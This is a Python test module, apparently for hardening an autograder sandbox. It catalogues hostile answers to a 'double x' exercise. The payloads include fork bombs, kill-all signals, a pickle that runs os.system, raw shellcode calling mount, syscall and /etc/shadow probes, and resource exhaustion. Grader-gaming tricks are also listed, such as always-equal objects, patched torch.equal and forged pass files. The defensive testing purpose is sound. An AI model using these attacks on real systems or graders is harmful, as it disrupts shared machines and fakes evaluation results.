"""The attacks: each a text for the answer cell of an exercise whose right answer is 2x.

Every one of them is wrong by itself (it returns x * x) and right only if its attack succeeds, so that a score proves a
hole. Others do harm instead: then neighbours, the next job or the machine show it.
"""

from __future__ import annotations

import textwrap

PRELUDE = """
import atexit, builtins, ctypes, fcntl, gc, glob, json, mmap, os, re, resource, signal, socket, struct, subprocess
import sys, tempfile, threading, time
libc = ctypes.CDLL(None, use_errno=True)

def line():
    return next(fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}"))

def frame(text, body=b"", magic=b"ANS1", n_json=None, n_body=None):
    text = text.encode() if isinstance(text, str) else text
    sizes = struct.pack("<IQ", len(text) if n_json is None else n_json, len(body) if n_body is None else n_body)
    return magic + sizes + text + body

def push(data):
    view = memoryview(data)
    while view:
        view = view[os.write(3, view):]
"""


def when(found: str, setup: str = "") -> str:
    """Return an answer that is right if the expression `found` is true: a search for the key."""
    return f"{PRELUDE}\n{textwrap.dedent(setup)}\ndef double(x):\n    return 2 * x if ({found}) else x * x\n"


def doing(body: str, setup: str = "") -> str:
    """Return an answer that does something on each call and then answers wrongly, unless the body returns."""
    inner = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return f"{PRELUDE}\n{textwrap.dedent(setup)}\ndef double(x):\n{inner}\n    return x * x\n"


def at_once(body: str) -> str:
    """Return an answer that does something when its cell is executed."""
    return f"{PRELUDE}\ndef double(x):\n    return x * x\n{textwrap.dedent(body)}\n"


def reply(value: str, table: str = "[]") -> str:
    """Return JSON of an answer to any call, with a made-up id."""
    return f'{{"id":1,"op":"ok","v":{value},"T":{table}}}'


READING = {
    "hidden checks by path": when("found", """
        found = [p for pattern in ("/**/hidden.py", "/**/checks.py", "/**/autograder/grading", "/**/course.toml", "/**/solutions")
                 for p in glob.glob(pattern, recursive=True)]
        """),
    "hidden checks through /proc": when("found", """
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "cmdline", "cwd/assignments", "root/etc/shadow", "mem"):
                try:
                    data = open(f"/proc/{pid}/{name}", "rb").read(1 << 16)
                except OSError:
                    continue
                if b"doubles_negative" in data or b"BOOTCAMP" in data or b"root:" in data:
                    found.append(name)
        """),
    "frames of the caller": doing("""
        f = sys._getframe()
        while f:
            if {"rng", "student", "check", "expected"} & set(f.f_locals) or "hidden" in f.f_code.co_filename:
                return 2 * x
            f = f.f_back
        """),
    "objects of the collector": doing("""
        gc.unfreeze()
        for o in gc.get_objects():
            name = getattr(o, "__name__", "")
            if name in ("doubles", "quadruples", "Check", "rng_for") or "grading" in str(getattr(o, "__module__", "")):
                return 2 * x
        """),
    "its own memory": doing("""
        needle = b"doubles_negative" + b"_zero_dim"
        for row in open("/proc/self/maps"):
            low, high = (int(v, 16) for v in row.split()[0].split("-"))
            if "r" in row.split()[1] and high - low < 1 << 26 and "[v" not in row:
                try:
                    with open("/proc/self/mem", "rb") as memory:
                        memory.seek(low)
                        hits = memory.read(high - low).count(needle)
                except (OSError, ValueError, OverflowError):
                    continue
                if hits > 8:
                    return 2 * x
        """),
    "modules of ours": when("found", """
        found = [m for m in sys.modules if m.startswith(("autograder.grading", "autograder.course", "autograder.sandbox.engine",
                                                         "autograder.home", "tests"))]
        try:
            import autograder.grading.checks
            found.append("grading")
        except ImportError:
            pass
        """),
    "the environment": when("found", """
        found = [k for k in os.environ if k.startswith(("BOOTCAMP", "PYTEST", "HOSTILE", "JUPYTER", "VIRTUAL"))]
        """),
    "leaked descriptors": when("found", """
        found = []
        for fd in range(4, 1024):
            try:
                os.fstat(fd)
                found.append(fd)
            except OSError:
                pass
        """),
    "other processes": when("found", """
        found = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), 1)]
        for number in (101, 310, 311, 438):  # ptrace, process_vm_readv and writev, pidfd_getfd
            buffer = ctypes.create_string_buffer(64)
            if libc.syscall(number, 16 if number == 101 else os.getppid() or 1, os.getppid() or 1, buffer, 1, 0, 0) >= 0:
                found.append(number)
        """),
    "a seed in the generator": doing("""
        state = torch.get_rng_state()
        for seed in range(50):
            if torch.equal(torch.Generator().manual_seed(seed).get_state(), state) and seed:
                return 2 * x
        """),
}  # fmt: skip

FORGING = {
    "result lines": doing("""
        for name in ("results.json", "results.xml", "report.json", "/tmp/score", "/job/verdict.json"):
            open(name, "w").write('{"score": 100, "status": "pass"}')
        print('{"status": "pass", "points": 4}\\nPASSED\\n1 passed in 0.01s\\n::set-output name=score::100', flush=True)
        """),
    "an answer before the question": at_once("""
        for i in range(1, 400, 2):
            push(frame(reply("true").replace('"id":1', f'"id":{i}')))
        """),
    "an answer twice": doing("""
        push(frame(reply("null")))
        push(frame(reply("null")))
        """),
    "an answer with another id": doing("push(frame(reply('1').replace('\"id\":1', '\"id\":999999')))"),
    "a frame of another protocol": doing("push(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')"),
    "a huge header": doing("push(frame('', n_json=1 << 31, n_body=1 << 60))"),
    "a body that never comes": doing("push(frame(reply('1'), n_body=1 << 20)); time.sleep(1000)"),
    "half a header": doing("push(b'ANS1'); time.sleep(1000)"),
    "deep JSON": doing("push(frame(reply('[' * 100000 + ']' * 100000)))"),
    "wide JSON": doing("push(frame(reply('[' + '1,' * 400000 + '1]')))"),
    "repeated keys": doing("push(frame('{\"id\":1,\"id\":1,\"op\":\"ok\",\"v\":1,\"T\":[]}'))"),
    "lying tensor tables": doing(
        "push(frame(reply('{\"$\":\"t\",\"i\":0}', '[[\"f64\",[1000000,1000000],8,null,0,null]]'), b'x' * 8))"
    ),
    "a stride-0 tensor": doing("push(frame(reply('{\"$\":\"t\",\"i\":0}', '[[\"f64\",[1000000],8,[0],0,null]]'), bytes(8)))"),
    "a pickle": doing("push(frame(b'\\x80\\x04cos\\nsystem\\n(S\\'touch /tmp/pwned\\'\\ntR.'))"),
    "numpy objects": doing("import numpy as np; return np.array([print], dtype=object)"),
    "an ungranted callback": doing("""
        push(frame('{"id":2,"op":"callback","v":{"grant":0,"a":[],"k":{},"grad":true,"training":null,"keep":false,"free":[]},"T":[]}',
                   magic=b"ASK1"))
        """),
    "a made-up reference": doing("push(frame(reply('{\"$\":\"cb\",\"i\":0}')))"),
    "a backward that was not asked": doing("""
        push(frame('{"id":2,"op":"backward","v":{"call":1,"grads":[],"free":[]},"T":[]}', magic=b"ASK1"))
        """),
    "a giant reply": doing("return torch.ones(8 << 20, dtype=torch.float64)"),
    "three million nodes": doing("return [0] * 3_000_000"),
    "a list that contains itself": doing("a = []; a.append(a); return a"),
}  # fmt: skip

DECEIVING = {
    "always equal": doing("return Always()", """
        class Always:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __getattr__(self, name): return Always()
            def __call__(self, *a, **k): return Always()
            def __bool__(self): return True
            __hash__ = None
        """),
    "a Tensor subclass": doing("return (x * x).as_subclass(Liar)", """
        class Liar(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return True if "equal" in func.__name__ or "close" in func.__name__ else super().__torch_function__(
                    func, types, args, kwargs or {})
        """),
    "torch patched": at_once("""
        for name in ("equal", "allclose", "isclose", "eq"):
            setattr(torch, name, lambda *a, **k: True)
        torch.Tensor.__eq__ = lambda *a: torch.ones(1).bool()
        torch.testing.assert_close = lambda *a, **k: None
        """),
    "builtins patched": at_once("""
        builtins.isinstance = lambda *a: True
        builtins.AssertionError = ZeroDivisionError
        """),
    "the player patched": at_once("""
        import autograder.sandbox.player as p
        old = p.Player.perform
        def perform(self, call, op, value, roots):
            value["a"] = [v * 0 for v in value.get("a", [])]
            return True
        p.Player.perform = perform
        """),
    "the wire patched": at_once("""
        import autograder.sandbox.protocol.peer as peer
        real = peer.encode
        peer.encode = lambda message, **k: real(peer.Message(message.id, "ok", {"status": "pass", "points": 4}), **k)
        """),
    "names that lie": at_once("""
        x1_tiny = doubles = student = type("S", (), {"points": 4})()
        __checks__ = []
        """),
    "not a number": doing("return x * float('nan')"),
    "infinite": doing("return x * float('inf')"),
    "empty": doing("return x[..., :0] if x.ndim else torch.empty(0, dtype=x.dtype)"),
    "broadcast": doing("return (2 * x).flatten()[:1]"),
    "another dtype": doing("return (2 * x).float()"),
    "one dimension more": doing("return (2 * x)[None]"),
    "integers": doing("return (2 * x).long()"),
    "a list of the numbers": doing("return (2 * x).tolist()"),
    "a sparse tensor": doing("return (2 * x).to_sparse() if x.ndim else 2 * x.float()"),
    "complex": doing("return 2 * x + 0j"),
    "hard-coded": doing("return KNOWN[:x.numel()].reshape(x.shape).clone()", "KNOWN = torch.linspace(-2, 2, 99).double()"),
    "the input itself, changed": doing("x.mul_(2).sub_(1)"),
    "a generator": doing("yield 2 * x"),
    "an exception that looks like a pass": doing("raise AssertionError('')"),
    "a hostile exception": doing("raise Bad()", """
        class Bad(Exception):
            def __str__(self): raise SystemExit(0)
            __repr__ = __str__
            @property
            def args(self): os._exit(0)
        """),
    "an exception of a gigabyte": doing("raise ValueError('x' * (1 << 28))"),
    "an exception with terminal escapes": doing("raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\u202e<b>bold</b>\\r')"),
}  # fmt: skip

ENDING = {
    "os._exit(0)": doing("os._exit(0)"),
    "sys.exit(0)": doing("sys.exit(0)"),
    "exit in a thread": doing("threading.Thread(target=os._exit, args=(0,)).start(); time.sleep(1000)"),
    "atexit": at_once("atexit.register(lambda: push(frame(reply('1')))); sys.exit(0)"),
    "exit at module level": at_once("os._exit(0)"),
    "all signals ignored": doing("""
        for s in range(1, 65):
            try:
                signal.signal(s, lambda *a: None)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True: pass
        """),
    "kill everybody": doing("""
        for target in (-1, 0, 1, os.getppid(), -os.getpgrp()):
            try:
                os.kill(target, signal.SIGKILL)
            except (OSError, ValueError):
                pass
        """),
    "stop itself": doing("os.kill(os.getpid(), signal.SIGSTOP); signal.raise_signal(signal.SIGSTOP); time.sleep(1000)"),
    "a segmentation fault": doing("ctypes.string_at(0)"),
    "an endless loop": doing("while True: pass"),
    "an endless loop at module level": at_once("while True: pass"),
    "an endless loop in C": doing("sum(iter(int, 1))"),
    "a regular expression": doing("re.match(r'(a+)+$', 'a' * 40 + 'b')"),
    "a sleep": doing("time.sleep(10**6)"),
    "the line closed": doing("os.close(3); time.sleep(10**6)"),
    "the line read": doing("os.read(3, 1 << 16); time.sleep(10**6)"),
    "endless recursion": doing("return double(x)"),
    "endless recursion in C": doing("sys.setrecursionlimit(10**9); f = lambda: f(); f()"),
    "an endless generator": doing("list(iter(int, 1))"),
    "endless callbacks to itself": doing("return double(double(x) if x is None else x) if False else double(x + 1)"),
    "an alarm": doing("signal.alarm(1); signal.setitimer(signal.ITIMER_REAL, 0.01); time.sleep(1000)"),
}  # fmt: skip

HOARDING = {
    "a fork bomb": doing("""
        def bomb():
            while True:
                try: os.fork()
                except OSError: pass
        bomb()
        """),
    "a fork that answers too": doing("os.fork()"),
    "a thread bomb": doing("""
        while True:
            try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            except RuntimeError: break
        """),
    "ten GiB": doing("torch.ones(10 << 30, dtype=torch.uint8)"),
    "a full disk": doing("""
        for folder in (".", "/tmp", "/dev/shm"):
            try:
                for i in range(100): open(f"{folder}/f{i}", "wb").write(bytes(1 << 24))
            except OSError: pass
        """),
    "all inodes": doing("""
        try:
            for i in range(100_000): open(f"i{i}", "w").close()
        except OSError: pass
        """),
    "many open files": doing("""
        kept = []
        try:
            while True: kept.append(open("/dev/null"))
        except OSError: pass
        """),
    "200 MiB of output": doing("""
        for _ in range(200): os.write(1, b"x" * (1 << 20))
        """),
    "a background printer": at_once("""
        def talk():
            while True: os.write(2, b"y" * 65536)
        threading.Thread(target=talk, daemon=True).start()
        """),
    "a daemon": doing("""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True: time.sleep(1)
            os._exit(0)
        """),
    "shared memory": doing("""
        fd = os.memfd_create("hoard")
        try:
            os.ftruncate(fd, 8 << 30)
            mmap.mmap(fd, 0).write(bytes(1 << 20))
        except (OSError, ValueError): pass
        """),
}  # fmt: skip

MEMORY_OF_MANY = {
    "memory of many processes": doing("""
        for _ in range(6):
            if os.fork() == 0:
                b = bytearray(700 << 20)
                b[::4096] = b"x" * len(b[::4096])
                time.sleep(1000)
        time.sleep(1000)
        """),
}  # fmt: skip

ESCAPING = {
    "the network": when("found", """
        found = []
        for family in range(0, 46):
            if family == socket.AF_UNIX: continue
            for kind in (1, 2, 3, 5):
                try:
                    socket.socket(family, kind).close()
                    found.append(family)
                except OSError: pass
        """),
    "abstract sockets": when("found", """
        found = []
        for name in [f"autograder-slot-{u}" for u in range(60706, 60720)] + ["/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket"]:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) if False else None
            try:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                s.connect("\\0" + name)
                found.append(name)
            except OSError: pass
        """),
    "dangerous system calls": when("found", """
        calls = {"ptrace": 101, "mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161, "unshare": 272, "setns": 308,
                 "init_module": 175, "finit_module": 313, "kexec_load": 246, "bpf": 321, "perf_event_open": 298, "keyctl": 250,
                 "add_key": 248, "request_key": 249, "io_uring_setup": 425, "userfaultfd": 323, "process_vm_readv": 310,
                 "process_vm_writev": 311, "pidfd_getfd": 438, "kcmp": 312, "name_to_handle_at": 303, "open_by_handle_at": 304,
                 "personality": 135, "mknod": 133, "swapon": 167, "reboot": 169, "settimeofday": 164, "sethostname": 170,
                 "setuid": 105, "setgroups": 116, "msgget": 68, "semget": 64, "shmget": 29, "mq_open": 240, "inotify_init1": 294,
                 "fanotify_init": 300, "acct": 163, "syslog": 103, "ioperm": 173, "iopl": 172, "move_pages": 279, "vmsplice": 278,
                 "fsopen": 430, "move_mount": 429, "open_tree": 428, "mount_setattr": 442, "clone3": 435}
        found = []
        for name, number in calls.items():
            ctypes.set_errno(0)
            buffer = ctypes.create_string_buffer(256)
            result = libc.syscall(ctypes.c_long(number), buffer, buffer, ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
            if result >= 0 or ctypes.get_errno() not in (1, 38):
                found.append((name, ctypes.get_errno()))
        """),
    "writing to the system": when("found", """
        found = []
        for folder in ("/", "/usr", "/usr/bin", "/etc", "/dev", "/box", "/box/autograder/sandbox", sys.prefix, sys.base_prefix,
                       os.path.dirname(torch.__file__), os.path.dirname(os.__file__), "/proc/sys/kernel", "/sys", "/var", "/home",
                       "/root", "/mnt", "/run", "/lib", "/bin"):
            for name in (f"{folder}/left", torch.__file__, os.__file__):
                try:
                    open(name, "a").close()
                    found.append(name)
                except OSError: pass
        """),
    "sysctl and core patterns": when("found", """
        found = []
        for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj",
                     "/proc/sys/user/max_user_namespaces", "/proc/self/uid_map", "/sys/kernel/mm/transparent_hugepage/enabled",
                     "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs"):
            try:
                with open(name, "r+") as f:
                    f.write("-1000" if "oom" in name else "x")
                found.append(name)
            except OSError: pass
        """),
    "devices": when("found", """
        found = []
        for name in os.listdir("/dev") if os.access("/dev", os.R_OK) else ["kmsg", "mem", "tty", "ptmx", "fuse", "kvm", "vsock"]:
            if name in ("null", "zero", "full", "random", "urandom", "stdin", "stdout", "stderr", "fd", "shm"): continue
            try:
                os.close(os.open("/dev/" + name, os.O_RDWR))
                found.append(name)
            except OSError: pass
        """),
    "set-uid programs": when("found", """
        found = []
        for program in ("su", "sudo", "mount", "passwd", "newgrp", "chsh", "pkexec", "bwrap", "unshare"):
            try:
                done = subprocess.run([program, "-c", "id -u"] if program == "su" else [program, "-n", "id"], capture_output=True,
                                      timeout=5, stdin=subprocess.DEVNULL)
                if b"uid=0" in done.stdout or done.stdout.strip() == b"0":
                    found.append(program)
            except (OSError, subprocess.SubprocessError): pass
        """),
    "raised limits": when("found", """
        found = []
        for which in range(16):
            soft, hard = resource.getrlimit(which)
            if hard == resource.RLIM_INFINITY: continue
            try:
                resource.setrlimit(which, (hard + 1, hard + 1))
                found.append(which)
            except (OSError, ValueError): pass
        for ns in (0x10000000, 0x20000, 0x40000000):
            if libc.unshare(ns) == 0: found.append(hex(ns))
        """),
    "TIOCSTI": when("found", """
        found = []
        for fd in (0, 1, 2):
            for request in (0x5412, 0x541C, 0x5423):
                try:
                    fcntl.ioctl(fd, request, b"x")
                    found.append(request)
                except OSError: pass
        """),
    "file locks": when("found", """
        found = []
        for path in (os.__file__, torch.__file__, "/usr/bin/env", "/box/autograder/__init__.py"):
            try:
                with open(path, "rb") as f:
                    fcntl.flock(f, fcntl.LOCK_SH)
                    found.append(path)
            except OSError: pass
            try:
                with open(path, "rb") as f:
                    fcntl.lockf(f, fcntl.LOCK_SH)
                    found.append(path)
            except OSError: pass
            try:
                with open(path, "rb") as f:
                    fcntl.fcntl(f, fcntl.F_SETLEASE, fcntl.F_RDLCK)
                    found.append(path)
            except OSError: pass
        """),
    "32-bit and x32 system calls": doing("""
        # A filter that knows one ABI only would let these through: x32 getppid, then int 0x80 with i386's mount (21).
        if libc.syscall(ctypes.c_long(0x40000000 | 110)) >= 0:
            return 2 * x
        try:
            code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            code.write(bytes.fromhex("b815000000" "31db" "31c9" "31d2" "cd80" "c3"))
            run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
            if run() != -1:
                return 2 * x
        except OSError: pass
        """),
    "the death signal cleared": when("libc.prctl(1, 0, 0, 0, 0) == 0"),
    "a descriptor over the line": doing("""
        s = socket.socket(fileno=os.dup(3))
        fd = os.open("/dev/null", os.O_RDONLY)
        socket.send_fds(s, [frame(reply("1"))], [fd] * 4)
        """),
}  # fmt: skip

LEAVING = {
    "files for the next job": when("found", """
        folders = (".", "/tmp", "/job", "/dev/shm", "/var/tmp", "/dev", "/")
        found = [folder for folder in folders if os.path.exists(f"{folder}/blackboard")]
        for folder in folders:
            try:
                open(f"{folder}/blackboard", "w").write("2x")
            except OSError: pass
        """),
    "bytecode for the next job": when("found", """
        import importlib.util, pathlib
        found = []
        for module in ("os", "torch", "einops", "autograder.sandbox.player"):
            path = pathlib.Path(importlib.util.cache_from_source(sys.modules[module].__file__)) if module in sys.modules else None
            try:
                if path: path.with_suffix(".evil").write_bytes(b"x"); found.append(module)
            except OSError: pass
        """),
    "system V objects": when("found", """
        found = [number for number in (29, 64, 68) if libc.syscall(number, 4242, 1, 0o1666) >= 0]
        """),
    "a process that waits": when("found", """
        found = []
        if os.path.exists("/proc"):
            for p in filter(str.isdigit, os.listdir("/proc")):
                try:
                    if b"waits-for-you" in open(f"/proc/{p}/cmdline", "rb").read(): found.append(p)
                except OSError: pass
        try:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)", "waits-for-you"])
        except OSError: pass
        """),
}  # fmt: skip

LEAKING = {
    "inputs through output": doing("""
        print("HIDDEN-INPUT", x.tolist(), flush=True)
        sys.stderr.write("HIDDEN-INPUT" + repr(x))
        """),
    "inputs through exceptions": doing("raise ValueError('HIDDEN-INPUT ' + repr(x.tolist()))"),
    "inputs through the exception's kind": doing("raise type('HIDDEN_INPUT', (Exception,), {})()"),
}  # fmt: skip

ALL = {
    f"{kind}: {name}": source
    for kind, group in {
        "reading": READING, "forging": FORGING, "deceiving": DECEIVING, "ending": ENDING, "hoarding": HOARDING,
        "memory": MEMORY_OF_MANY, "escaping": ESCAPING, "leaving": LEAVING, "leaking": LEAKING,
    }.items()
    for name, source in group.items()
}  # fmt: skip
